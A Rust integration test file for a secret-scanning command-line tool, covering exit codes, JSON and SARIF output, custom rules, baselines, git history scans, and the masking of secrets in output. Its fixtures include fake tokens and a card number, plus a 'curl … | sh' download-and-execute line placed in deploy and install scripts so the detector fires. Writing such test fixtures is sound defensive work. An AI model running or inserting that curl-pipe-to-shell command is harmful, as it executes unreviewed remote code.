//! `chaperone scan` end to end: exit codes, formats, user rules, and no secret in any output.

mod common;

use std::process::Command;

use common::BIN;

const SECRET: &str = "ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo";

fn scan(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(BIN).arg("scan").args(args).output().unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn scan_reports_in_every_format_and_sets_the_exit_code() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".env"), format!("GITHUB_TOKEN={SECRET}\n")).unwrap();
    std::fs::write(dir.path().join("clean.txt"), "nothing to see\n").unwrap();
    let root = dir.path().to_str().unwrap();

    let (code, out, _) = scan(&[root]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains(".env:1:14") && out.contains("****(40 chars)") && !out.contains("ghp_"),
        "{out}"
    );
    assert!(!out.contains(SECRET));

    let (code, out, _) = scan(&[root, "--format", "json"]);
    assert_eq!(code, 1);
    let json: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(json["files_scanned"], 2);
    assert!(!out.contains(SECRET));

    let (code, out, _) = scan(&[root, "--format", "sarif"]);
    assert_eq!(code, 1);
    let sarif: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(
        result["locations"][0]["physicalLocation"]["region"]["startLine"],
        1
    );
    let rule_index = result["ruleIndex"].as_u64().unwrap() as usize;
    assert_eq!(
        sarif["runs"][0]["tool"]["driver"]["rules"][rule_index]["id"],
        result["ruleId"]
    );
    assert!(!out.contains(SECRET));

    // A clean file: exit 0. A missing path: exit 2 with a message.
    let (code, _, _) = scan(&[dir.path().join("clean.txt").to_str().unwrap()]);
    assert_eq!(code, 0);
    let (code, _, err) = scan(&[dir.path().join("missing").to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("cannot read"), "{err}");
}

#[test]
fn user_rules_add_and_disable() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("app.cfg"),
        "acme_key = acme_q8Zr2LmX9vTp4WkN7sYd\n",
    )
    .unwrap();
    let rules = dir.path().join("rules.toml");
    std::fs::write(
        &rules,
        "[[rule]]\nid = \"acme-key\"\ndescription = \"ACME API key\"\nseverity = \"medium\"\n\
         keywords = [\"acme_\"]\nregex = '''\\b(acme_[A-Za-z0-9]{20})\\b'''\nsecret_group = 1\n",
    )
    .unwrap();
    let target = dir.path().join("app.cfg");
    let (code, out, _) = scan(&[
        target.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("\"acme-key\""), "{out}");
    // A medium finding below --fail-on high: reported, exit 0.
    let (code, out, _) = scan(&[
        target.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--fail-on",
        "high",
    ]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("acme-key"), "{out}");
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[[rule]]\nid = \"x\"\n").unwrap();
    let (code, _, err) = scan(&[target.to_str().unwrap(), "--rules", bad.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("rules"), "{err}");
}

#[test]
fn a_baseline_accepts_reviewed_findings_and_reports_only_new_ones() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    std::fs::write(repo.join("ci.yml"), format!("token: {SECRET}\n")).unwrap();
    let root = repo.to_str().unwrap();
    let baseline = dir.path().join("baseline.json");
    let baseline = baseline.to_str().unwrap();

    let (code, _, err) = scan(&[root, "--write-baseline", baseline]);
    assert_eq!(code, 0, "{err}");
    let written = std::fs::read_to_string(baseline).unwrap();
    assert!(
        written.contains("ci.yml") && !written.contains(SECRET),
        "{written}"
    );
    let (code, out, err) = scan(&[root, "--baseline", baseline]);
    assert_eq!(code, 0, "{out}");
    assert!(err.contains("1 finding(s) accepted"), "{err}");

    // A new leak is reported, the accepted one is not.
    std::fs::write(
        repo.join("deploy.sh"),
        "curl -fsSL https://get.example.net/x | sh\n",
    )
    .unwrap();
    let (code, out, _) = scan(&[root, "--baseline", baseline]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("download-and-execute-shell") && !out.contains("ci.yml"),
        "{out}"
    );
    let (code, _, err) = scan(&[root, "--baseline", "/nonexistent/baseline.json"]);
    assert_eq!(code, 2, "{err}");
}

#[test]
fn history_finds_what_was_committed_and_removed() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args(args)
            .current_dir(repo)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("app.py"), format!("TOKEN = '{SECRET}'\n")).unwrap();
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "first"]);
    std::fs::write(repo.join("app.py"), "TOKEN = os.environ['TOKEN']\n").unwrap();
    git(&["commit", "-q", "-am", "oops"]);
    let root = repo.to_str().unwrap();
    let (code, out, _) = scan(&[root]);
    assert_eq!(code, 0, "the work tree is clean: {out}");
    let (code, out, _) = scan(&[root, "--history"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains(":app.py:1:") && !out.contains(SECRET), "{out}");
}

#[test]
fn sarif_output_validates_against_the_sarif_2_1_0_schema() {
    let Some(python) = common::python() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".env"), format!("GITHUB_TOKEN={SECRET}\n")).unwrap();
    std::fs::write(
        dir.path().join("install.sh"),
        "curl -fsSL https://get.example.net/x | sh\ncard 4539 1488 0343 6467\n",
    )
    .unwrap();
    let (code, sarif, _) = scan(&[dir.path().to_str().unwrap(), "--format", "sarif"]);
    assert_eq!(code, 1);
    let report = dir.path().join("report.sarif");
    std::fs::write(&report, &sarif).unwrap();
    let schema =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sarif/sarif-2.1.0-rtm.5.json");
    let check = "import json, sys, jsonschema\n\
                 schema = json.load(open(sys.argv[1]))\n\
                 report = json.load(open(sys.argv[2]))\n\
                 jsonschema.Draft4Validator.check_schema(schema)\n\
                 errors = list(jsonschema.Draft4Validator(schema).iter_errors(report))\n\
                 [print(e.message, list(e.path)) for e in errors]\n\
                 assert len(report['runs'][0]['results']) >= 3\n\
                 rules = report['runs'][0]['tool']['driver']['rules']\n\
                 for r in report['runs'][0]['results']:\n\
                 \x20   assert rules[r['ruleIndex']]['id'] == r['ruleId'], r\n\
                 sys.exit(1 if errors else 0)\n";
    let out = Command::new(python)
        .args(["-c", check])
        .arg(&schema)
        .arg(&report)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!sarif.contains(SECRET));
}

/// A reader that stops early (`| head`) ends the command quietly, as Unix tools end: exit
/// status 141, and no panic or backtrace on standard error.
#[test]
fn a_reader_that_stops_early_ends_the_command_quietly() {
    use std::io::Read as _;
    let dir = tempfile::tempdir().unwrap();
    // Tokens of 36 letters and digits, from a fixed pseudo-random sequence.
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(ALPHABET[(state % 62) as usize])
    };
    let lines: String = (0..20_000)
        .map(|_| {
            format!(
                "GITHUB_TOKEN=ghp_{}\n",
                (0..36).map(|_| next()).collect::<String>()
            )
        })
        .collect();
    std::fs::write(dir.path().join("keys.env"), lines).unwrap();
    let mut child = Command::new(BIN)
        .args(["scan", dir.path().to_str().unwrap(), "--format", "json"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 16];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // Standard output is closed here, with most of the report unread.
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(141), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(stderr.contains("standard output was closed"), "{stderr}");
}
